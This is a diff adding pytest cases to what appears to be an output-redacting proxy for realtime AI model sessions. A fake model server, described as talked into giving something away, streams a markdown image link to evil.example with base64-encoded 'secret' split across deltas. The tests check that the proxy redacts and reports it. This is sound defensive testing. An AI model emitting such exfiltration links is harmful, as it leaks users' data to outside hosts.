@@ -11,6 +11,8 @@ from typing import Any
 
 import pytest
 from openai import AsyncAzureOpenAI, AsyncOpenAI
+from websockets.asyncio.client import ClientConnection
+from websockets.asyncio.server import ServerConnection
 from websockets.exceptions import InvalidStatus
 
 from stockade.settings import Limits
@@ -19,6 +21,7 @@ from tests.factories.data_plane import ask
 from tests.factories.egress import IMAGE_TYPE, PNG, egress_settings
 from tests.factories.engine import answers, engine, reply
 from tests.factories.names import has, name_server
+from tests.factories.realtime import RealtimeServer
 from tests.factories.websocket import PATIENCE_S, REALTIME, REALTIME_V1, Sessions, end, event, sessions
 
 ITEM = {"type": "conversation.item.create", "event_id": "mine"}
@@ -364,6 +367,87 @@ async def test_what_is_no_event_is_answered_and_passed_to_nobody(open_account: S
         await connection.send('{"type":"response.create"}')
         assert (await event(connection))["type"] == "response.output_text.delta"
     assert open_account.engine.events() == [{"type": "response.create"}]
+
+
+# What the model says.
+
+SPLIT = ("See ![x](https://ev", "il.example/?d=", "c2VjcmV0) and ", "https://tools.example.com/a.")
+
+
+async def spill(_: RealtimeServer, connection: ServerConnection, message: dict[str, Any]) -> None:
+    """Answer as a model that has been talked into giving something away, piece by piece."""
+    kind, ids = message["kind"], {"response_id": "r1", "item_id": "i1", "output_index": 0, "content_index": 0}
+    for part in SPLIT:
+        await connection.send(json.dumps({"type": f"{kind}.delta", "delta": part, **ids}))
+    name = "transcript" if "transcript" in kind else "text"
+    await connection.send(json.dumps({"type": f"{kind}.done", name: "".join(SPLIT), **ids}))
+    await connection.send(
+        json.dumps({"type": "response.done", "response": {"output": [{"content": [{name: "".join(SPLIT)}]}]}})
+    )
+
+
+async def heard(connection: ClientConnection, kind: str) -> tuple[str, str, str]:
+    """Return what the deltas say together, what the closing event says, and what the response says."""
+    await connection.send(json.dumps({"type": "x", "kind": kind}))
+    text, whole = "", ""
+    while (told := await event(connection))["type"] != "response.done":
+        if told["type"] == f"{kind}.delta":
+            text += told["delta"]
+        else:
+            assert told["type"] == f"{kind}.done"
+            whole = told.get("text") or told["transcript"]
+    (content,) = told["response"]["output"][0]["content"]
+    return text, whole, next(iter(content.values()))
+
+
+@pytest.mark.parametrize(
+    "kind", ["response.text", "response.output_text", "response.audio_transcript", "response.output_audio_transcript"]
+)
+async def test_what_the_model_says_is_redacted_over_all_pieces(tmp_path: Path, kind: str) -> None:
+    stockade = {"controls": {"output": "enforce"}, "dlp": {"inlineContent": False}}
+    async with sessions(
+        tmp_path, spill, restrictOutboundNetworkAccess=True, allowedFqdnList=["tools.example.com"], stockade=stockade
+    ) as running:
+        async with running.session() as connection:
+            for said in await heard(connection, kind):
+                assert "evil.example" not in said
+                assert "c2VjcmV0" not in said
+                assert said.startswith("See ")
+                assert said.endswith(" and https://tools.example.com/a.")
+        (record,) = await running.recorded()
+    assert {told["host"] for told in record["reported"]} == {"evil.example"}
+    assert "c2VjcmV0" not in json.dumps(record)
+
+
+async def test_what_the_model_says_is_recorded_until_the_account_says_otherwise(restricted: Sessions) -> None:
+    restricted.engine.answer = spill
+    async with restricted.session() as connection:
+        assert set(await heard(connection, "response.output_text")) == {"".join(SPLIT)}
+        stockade = {"controls": {"output": "enforce"}, "dlp": {"inlineContent": False}}
+        restricted.plane.change(restricted.account, stockade=stockade)
+        assert all("evil.example" not in said for said in await heard(connection, "response.output_text"))
+    (record,) = await restricted.recorded()
+    assert {told["action"] for told in record["reported"]} == {"passed", "redacted"}
+
+
+async def test_what_cannot_be_looked_at_ends_a_redacted_session(tmp_path: Path) -> None:
+    async def talk(_: RealtimeServer, connection: ServerConnection, __: dict[str, Any]) -> None:
+        await connection.send("no JSON https://evil.example/")
+
+    async with (
+        sessions(
+            tmp_path,
+            talk,
+            restrictOutboundNetworkAccess=True,
+            allowedFqdnList=[],
+            stockade={"controls": {"output": "enforce"}},
+        ) as running,
+        running.session() as connection,
+    ):
+        await connection.send('{"type":"x"}')
+        events, code, _ = await end(connection)
+        assert code == 1011
+        assert "evil.example" not in json.dumps(events)
 
 
 # How sessions end.
